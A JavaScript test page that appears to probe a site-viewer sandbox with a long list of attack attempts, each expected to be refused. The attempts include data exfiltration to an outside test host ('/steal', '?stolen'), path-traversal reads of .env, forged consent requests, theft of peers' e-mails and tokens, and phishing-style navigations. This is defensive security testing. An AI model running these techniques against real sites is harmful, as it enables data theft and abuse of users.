// Each attempt says what it got. "refused" is what it should say; everything else is text for the report.
// The attempts named "own ..." are the counter-check: they must work, or the rest would prove nothing.

import { loaded } from "./module.js";

const self = location.pathname.split("/p/")[1].split("/")[0];
const asked = new URLSearchParams(location.search);
const other = asked.get("other") || "";
const otherSite = asked.get("othersite") || "";
const canary = "canary-of-the-viewer";
// The viewer's own address, and the root of this site: its origin, or its secret path.
const viewer = `http://127.0.0.1:${location.port}`;
const root = location.pathname.split("/p/")[0];
// A server that counts; whatever arrives there has left the site.
const outside = asked.get("outside") || "http://192.0.2.1";
const place = new URL(outside).host;
const isOpaque = origin === "null";

const no = (text) => Promise.reject(new Error(text));
const within = (promise, ms = 2500) =>
  Promise.race([promise, new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), ms))]);
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

async function read(url, options) {
  const answer = await within(fetch(url, options));
  if (answer.type === "opaque") return no("opaque");
  const text = await answer.text();
  return answer.ok ? `${answer.status} ${text}` : no(String(answer.status));
}
const blind = (url, options) => within(fetch(url, { mode: "no-cors", ...options })).then(() => "sent");

// Where a path of this site leads. The policy stops whoever follows out of the site, so a stop means that it led there.
async function ledTo(path) {
  const url = `${location.origin}${root}${path}`;
  const answer = await within(fetch(url, { redirect: "manual" }));
  if (answer.type !== "opaqueredirect") return no(`${answer.status}, no redirect`);
  return within(fetch(url)).then((led) => led.url, (error) => `stopped: ${error.message}`);
}
async function leadsOut(path) {
  const led = await ledTo(path);
  return led.startsWith(`${location.origin}${root}/p/${self}/`) ? no("stays in the site") : led;
}

const loadsAs = (tag, attribute, url, more = {}) =>
  within(new Promise((resolve, reject) => {
    const element = Object.assign(document.createElement(tag), more);
    element.onload = () => resolve("loaded");
    element.onerror = () => reject(new Error("error"));
    element[attribute] = url;
    document.body.append(element);
  }));

// The policy that refuses tells the page so, at once unless the machine is busy; nothing told means that the request went out.
const policyRefuses = (directive, act) =>
  new Promise((resolve, reject) => {
    const heard = (event) => { if (event.effectiveDirective === directive) reject(new Error(directive)); };
    document.addEventListener("securitypolicyviolation", heard);
    try { act(); } catch (error) { reject(error); }
    setTimeout(() => resolve("nothing stopped it"), 5000);
  });

const framed = (url) =>
  within(new Promise((resolve, reject) => {
    const frame = document.createElement("iframe");
    frame.src = url;
    frame.onload = () => {
      // A refused frame loads an error page; only a readable document counts.
      try { resolve(frame.contentDocument.body.textContent); } catch (error) { reject(error); }
    };
    document.addEventListener("securitypolicyviolation", (event) => { if (event.effectiveDirective.startsWith("frame-src")) reject(new Error("frame-src")); });
    document.body.append(frame);
  }));

const events = (url) =>
  within(new Promise((resolve, reject) => {
    const source = new EventSource(url);
    source.onopen = () => resolve("open");
    source.onerror = () => { source.close(); reject(new Error("error")); };
  }));
const socket = (url) =>
  within(new Promise((resolve, reject) => {
    const made = new WebSocket(url);
    made.onopen = () => resolve("open");
    made.onerror = () => reject(new Error("error"));
  }));
const worker = (make) =>
  within(new Promise((resolve, reject) => {
    const made = make();
    (made.port ?? made).onmessage = () => resolve("runs");
    made.onerror = () => reject(new Error("error"));
  }));
const submits = (action, more = {}) => {
  const form = Object.assign(document.createElement("form"), { action, method: "post", enctype: "text/plain", ...more });
  const field = Object.assign(document.createElement("input"), { name: '{"peer":"' + self + '","email":true,"x":"', value: '"}' });
  form.append(field);
  document.body.append(form);
  form.submit();
};
const follows = (href, more = {}) => { const link = Object.assign(document.createElement("a"), { href, ...more }); document.body.append(link); link.click(); };
const ran = (name, act, ms = 400) => async () => {
  delete window[name];
  act();
  await pause(ms);
  return window[name] ? "ran" : no("did not run");
};
const consent = JSON.stringify({ peer: self, email: true });
const json = { method: "POST", body: consent, headers: { "Content-Type": "application/json" } };

const attempts = {
  "own module": async () => String(loaded),
  "own fetch": () => read("own.json"),
  "own style": async () => getComputedStyle(document.body).backgroundColor,
  "own peers": () => read(`${root}/api/peers`),
  "own profile": () => read(`${root}/api/self`),
  "own tables are asked for": async () => {
    const answer = await fetch(`${root}/api/p/${self}/data/tables`);
    return answer.headers.get("content-type").includes("json") ? String(answer.status) : no("no JSON");
  },
  "own folder is led to its slash": async () => {
    const led = await ledTo(`/p/${self}/folder`);
    return led === `${location.origin}${root}/p/${self}/folder/` ? "led" : no(led);
  },
  ...(isOpaque ? {} : {
    "own storage": async () => { localStorage.setItem("mine", "1"); return localStorage.getItem("mine"); },
    "own worker": () => worker(() => new Worker("worker.js")),
  }),

  // What the viewer knows
  "e-mails of peers": async () => { const text = await read(`${root}/api/peers`); return text.includes("@") ? text : no("none"); },
  "e-mail of the visitor": async () => { const text = await read(`${root}/api/self`); return text.includes("@") ? text : no("none"); },
  "favourites of the visitor": async () => { const text = await read(`${root}/api/peers`); return text.includes('"Favorite":true') ? text : no("none"); },
  "viewer: peers": () => read(`${viewer}/api/peers`),
  "viewer: peers, no-cors": () => blind(`${viewer}/api/peers`),
  "viewer: peers, with credentials": () => read(`${viewer}/api/peers`, { credentials: "include" }),
  "viewer: peers by localhost": () => read(`http://localhost:${location.port}/api/peers`),
  "viewer: peers by IPv6": () => read(`http://[::1]:${location.port}/api/peers`),
  "viewer: peers by a long number": () => read(`http://2130706433:${location.port}/api/peers`),
  "viewer: peers by XMLHttpRequest": () => within(new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open("GET", `${viewer}/api/peers`);
    request.onload = () => resolve(request.responseText);
    request.onerror = () => reject(new Error("error"));
    request.send();
  })),
  "viewer: live events": () => events(`${viewer}/api/events`),
  "viewer: live events on the own origin": () => events(`${root}/api/events`),
  "viewer: message queue on the own origin": () => events(`${root}/api/mq/events`),
  "viewer: page": () => read(`${viewer}/`),
  "viewer: page on the own origin": () => read(`${root}/`),
  "viewer: token in the shell page": () => read(`${viewer}/p/${self}/`, { headers: { Accept: "text/html" } }),
  "viewer: script": () => read(`${viewer}/assets/viewer.js`),
  "viewer: script as module": () => within(import(`${viewer}/assets/identicon.js`)).then(() => "imported"),
  "viewer: script tag": () => loadsAs("script", "src", `${viewer}/assets/viewer.js`),
  "viewer: data as script": () => loadsAs("script", "src", `${viewer}/api/peers`),
  "viewer: picture": () => loadsAs("img", "src", `${viewer}/assets/icon.svg`),
  "viewer: style sheet": () => loadsAs("link", "href", `${viewer}/assets/viewer.css`, { rel: "stylesheet" }),
  "viewer: framed": () => framed(`${viewer}/`),
  "viewer: data framed": () => framed(`${viewer}/api/peers`),
  "viewer: as object": () => loadsAs("object", "data", `${viewer}/`),
  "viewer: assets by dots": () => read(`${root}/p/${self}/../../assets/viewer.js`),
  "viewer: events by escaped dots": () => read(`${root}/p/${self}/%2e%2e/%2e%2e/api/events`),
  "viewer: peers by escaped slashes": () => read(`${root}/p/${self}/..%2f..%2fapi/peers`),
  "viewer: peers by backslashes": () => read(`${root}/p/${self}/..%5c..%5capi%5cpeers`),
  "hidden files": () => read(`${root}/p/${self}/.env`),
  "hidden files, escaped": () => read(`${root}/p/${self}/%2eenv`),
  "files outside of the site": () => read(`${root}/p/${self}/..%2fgoop.json`),

  // Acting in the visitor's name
  "act: consent by fetch": () => read(`${viewer}/api/shell/consent`, json),
  "act: consent by a simple request": () => blind(`${viewer}/api/shell/consent`, { method: "POST", body: consent, headers: { "Content-Type": "text/plain" } }),
  "act: consent on the own origin": () => read(`${root}/api/shell/consent`, json),
  "act: consent by beacon": () => policyRefuses("connect-src", () => navigator.sendBeacon(`${viewer}/api/shell/consent`, consent)),
  "act: consent by picture": () => loadsAs("img", "src", `${viewer}/api/shell/consent?peer=${self}&email=true`),
  "act: a socket to the viewer": () => socket(`ws://127.0.0.1:${location.port}/api/events`),
  "act: a socket to the own origin": () => socket(`ws://${location.host}/api/events`),
  "act: posts to a page": () => read(`${root}/p/${self}/own.json`, { method: "POST", body: "x" }),
  "act: deletes": () => read(`${root}/p/${self}/own.json`, { method: "DELETE" }),

  // Other sites
  "other: on the own origin": () => read(`${root}/p/${other}/`),
  "other: on the viewer's address": () => read(`${viewer}/p/${other}/`),
  "other: on its origin": () => read(`${otherSite}/p/${other}/`),
  "other: on its origin, no-cors": () => blind(`${otherSite}/p/${other}/`),
  "other: as script": () => loadsAs("script", "src", `${otherSite}/p/${other}/app.js`),
  "other: as picture": () => loadsAs("img", "src", `${otherSite}/p/${other}/icon.svg`),
  "other: as module": () => within(import(`${otherSite}/p/${other}/app.js`)).then(() => "imported"),
  "other: framed": () => framed(`${otherSite}/p/${other}/`),
  "other: its tables": () => read(`${root}/api/p/${other}/data/tables`),
  "other: its tables on its origin": () => read(`${otherSite}/api/p/${other}/data/tables`),
  "other: secret path": () => read(`${viewer}/c/guess/p/${other}/`),
  "own site framed": () => framed(`${root}/p/${self}/own.html`),

  // Storage
  "storage: local, of the viewer": async () => { const text = localStorage.getItem(canary); return text ?? no("not there"); },
  "storage: of the parent": async () => String(parent.localStorage.getItem(canary)),
  "storage: session": async () => (sessionStorage.length ? "not empty" : no("empty")),
  "storage: databases": async () => ((await indexedDB.databases()).some((one) => one.name === canary) ? "there" : no("not there")),
  "storage: caches": async () => ((await caches.has(canary)) ? "there" : no("not there")),
  "storage: files": async () => { await (await navigator.storage.getDirectory()).getFileHandle(canary); return "there"; },
  "storage: cookies": async () => document.cookie || no("none"),
  "storage: a cookie for localhost": async () => { document.cookie = "wide=1; domain=localhost; path=/"; return document.cookie.includes("wide") ? "set" : no("not set"); },
  "storage: a cookie for all sites": async () => { document.cookie = "wide=1; domain=.localhost; path=/; samesite=none"; return document.cookie.includes("wide") ? "set" : no("not set"); },
  "storage: access to more": () => within(document.requestStorageAccess()).then(async () => ((await document.hasStorageAccess()) && localStorage.getItem(canary)) || no("nothing more")),
  "storage: document.domain": async () => { document.domain = "localhost"; return document.domain === "localhost" ? "widened" : no("same"); },

  // Outliving the visit
  "outlive: service worker": () => within(navigator.serviceWorker.register("worker.js")).then(() => "registered"),
  "outlive: service worker for everything": () => within(navigator.serviceWorker.register("worker.js", { scope: "/" })).then(() => "registered"),
  "outlive: service worker as module": () => within(navigator.serviceWorker.register("attack.js", { type: "module" })).then(() => "registered"),
  "outlive: shared worker": () => worker(() => new SharedWorker("worker.js")),
  "worker of a blob": () => worker(() => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"], { type: "text/javascript" })))),

  // The tab and the bar
  "bar: parent document": async () => String(parent.document.title),
  "bar: top address": async () => String(top.location.href),
  "bar: its token": async () => String(top.document.querySelector("meta[name=goop-token]").content),
  "tab: top navigation": async () => { top.location.href = `${outside}/`; await pause(500); return no("ignored"); },
  "tab: top replaced": async () => { top.location.replace(`${outside}/`); await pause(500); return no("ignored"); },
  "tab: a link to the top": async () => { const link = Object.assign(document.createElement("a"), { href: `${outside}/`, target: "_top" }); document.body.append(link); link.click(); await pause(500); return no("ignored"); },
  "tab: top opened by name": async () => (window.trueOpen(`${outside}/`, "_top") ? "navigated" : no("null")),
  "tab: closed": async () => { top.close(); await pause(300); return no("ignored"); },
  "tab: messages to the bar": async () => {
    for (const text of ["close", { path: "/fake", label: "Your bank" }]) parent.postMessage(text, "*");
    return no("sent; what comes of it is looked at below");
  },
  "window": async () => (window.trueOpen("/", "_blank") ? "opened" : no("null")),
  "window by the viewer's own script": async () => (window.open(`${outside}/`, "_blank") ? "opened" : no("null")),
  "window by a link": async () => { const link = Object.assign(document.createElement("a"), { href: `${outside}/`, target: "_blank" }); document.body.append(link); link.click(); await pause(300); return no("counted by the check"); },
  "opener": async () => (window.opener ? String(window.opener.location) : no("null")),
  "full screen": () => within(document.documentElement.requestFullscreen()).then(() => "full"),
  "picture in picture": () => within(document.createElement("video").requestPictureInPicture()).then(() => "shown"),
  "pointer lock": () => within(Promise.resolve(document.body.requestPointerLock())).then(() => (document.pointerLockElement ? "locked" : no("not locked"))),
  "dialog": async () => (confirm("?") ? "shown" : no("not shown")),
  "notification": async () => ((await Notification.requestPermission()) === "granted" ? "granted" : no("denied")),

  // Telling somebody outside
  "outside: fetch": () => blind(`${outside}/steal`),
  "outside: picture": () => loadsAs("img", "src", `${outside}/steal.png`),
  "outside: style": () => policyRefuses("style-src-elem", () => document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${outside}/x.css` }))),
  "outside: font": () => policyRefuses("font-src", () => { const font = new FontFace("x", `url(${outside}/x.woff2)`); document.fonts.add(font); font.load().catch(() => {}); }),
  "outside: media": () => policyRefuses("media-src", () => document.body.append(Object.assign(document.createElement("video"), { src: `${outside}/x.mp4` }))),
  "outside: beacon": () => policyRefuses("connect-src", () => navigator.sendBeacon(`${outside}/x`, "x")),
  "outside: ping of a link": () => policyRefuses("connect-src", () => { const link = Object.assign(document.createElement("a"), { href: "#x", ping: `${outside}/x` }); document.body.append(link); link.click(); }),
  "outside: socket": () => socket(`${outside.replace("http", "ws")}/x`),
  "outside: script": () => loadsAs("script", "src", `${outside}/x.js`),
  "outside: script of data": () => loadsAs("script", "src", "data:text/javascript,window.dataRan=1"),
  "outside: module of data": () => within(import("data:text/javascript,export default 1")).then(() => "imported"),
  "outside: prefetch": () => loadsAs("link", "href", `${outside}/x`, { rel: "prefetch" }),
  "outside: preload": () => loadsAs("link", "href", `${outside}/x.js`, { rel: "preload", as: "script" }),
  "redirect: two slashes": () => leadsOut(`//${place}/`),
  "redirect: two slashes in the site": () => leadsOut(`/p/${self}//${place}`),
  "redirect: two slashes for the site": () => leadsOut(`/p//${place}/`),
  "redirect: escaped slashes": () => leadsOut(`/%2f%2f${place}`),
  "redirect: escaped slashes in the site": () => leadsOut(`/p/${self}/%2f%2f${place}`),
  "redirect: a folder's, with a place behind it": () => leadsOut(`/p/${self}/folder?//${place}/`),
  "outside: base address": async () => { document.head.append(Object.assign(document.createElement("base"), { href: `${outside}/` })); return document.baseURI.startsWith(outside) ? "moved" : no("same"); },

  // Script where none should be
  "script: inline": async () => (window.inlineScriptRan ? "ran" : no("did not run")),
  "script: eval": async () => String(eval("1 + 1")),
  "script: Function": async () => String(new Function("return 2")()),
  "script: handler": ran("handlerRan", () => { const place = document.createElement("div"); place.innerHTML = "<img src='data:,' onerror='window.handlerRan=1'>"; document.body.append(place); }),
  "script: a text file": () => loadsAs("script", "src", "note.txt"),
  "script: a picture": () => loadsAs("script", "src", "fake.png"),
  "script: a picture with script in it": ran("svgRan", () => document.body.append(Object.assign(document.createElement("img"), { src: "script.svg" }))),

  "place": () => within(new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(() => resolve("told"), reject))),
  "camera": () => within(navigator.mediaDevices.getUserMedia({ video: true })).then(() => "given"),
  "screen": () => within(navigator.mediaDevices.getDisplayMedia()).then(() => "given"),
  "clipboard": () => within(navigator.clipboard.readText()),
  // Recorded in docs/threat-model.md: what a connection of its own tells the site.
  "webrtc: addresses": async () => {
    const connection = new RTCPeerConnection();
    const seen = [];
    connection.onicecandidate = ({ candidate }) => { if (candidate?.candidate) seen.push(candidate.candidate.split(" ")[4]); };
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
    await pause(1500);
    connection.close();
    return seen.some((name) => !name.endsWith(".local")) ? seen.join(" ") : no(`${seen.length} names, all hidden: ${seen.join(" ")}`);
  },
  // Last, so that the others are tried without the SDK in the page.
  "own sdk": () => loadsAs("script", "src", "/sdk/goop-data.js"),
};

// Each of these may end the page, so each gets a load of its own: ?leave=<number>.
const leaving = {
  "a form to the viewer": () => submits(`${viewer}/api/shell/consent`),
  "a form to a place outside": () => submits(`${outside}/x`),
  "a form for the whole tab": () => submits(`${outside}/`, { target: "_top" }),
  "a form for a new tab": () => submits(`${viewer}/api/shell/consent`, { target: "_blank" }),
  "an address outside": () => { location.href = `${outside}/?stolen`; },
  "an address outside, replaced": () => location.replace(`${outside}/?stolen`),
  "the viewer's front page": () => { location.href = `${viewer}/`; },
  "the viewer's data": () => { location.href = `${viewer}/api/peers`; },
  "another site": () => { location.href = `${otherSite}/p/${other}/`; },
  "another site by its path": () => { location.href = `${root}/p/${other}/`; },
  "the own site outside of its frame": () => follows(`${viewer}/p/${self}/`, { target: "_top" }),
  "a page of data": () => { location.href = "data:text/html,<h1>Your bank</h1>"; },
  "a page of a blob": () => { location.href = URL.createObjectURL(new Blob(["<h1>Your bank</h1><script>top.document.title='x'</scr" + "ipt>"], { type: "text/html" })); },
  "a script as address": () => follows("javascript:document.title='script ran'"),
  "a refresh": () => document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${outside}/` })),
  "back over the beginning": () => history.go(-5),
  "many steps, then back": () => { for (let n = 0; n < 60; n += 1) history.pushState(null, "", `?n=${n}`); history.go(-70); },
};
if (asked.has("leave")) {
  document.title = "leaving";
  document.getElementById("results").textContent = "leaving";
  await pause(100);
  Object.values(leaving)[Number(asked.get("leave"))]();
  await new Promise(() => {});
}

// ?only=NAME: this one and no other.
const only = asked.get("only");
const results = {};
for (const [name, attempt] of Object.entries(attempts)) {
  if (only && name !== only) continue;
  try {
    results[name] = `GOT ${String(await attempt()).slice(0, 200)}`;
  } catch (error) {
    results[name] = `refused (${String(error?.message || error).slice(0, 80)})`;
  }
}
document.getElementById("results").textContent = JSON.stringify(results, null, 1);
document.title = "done";
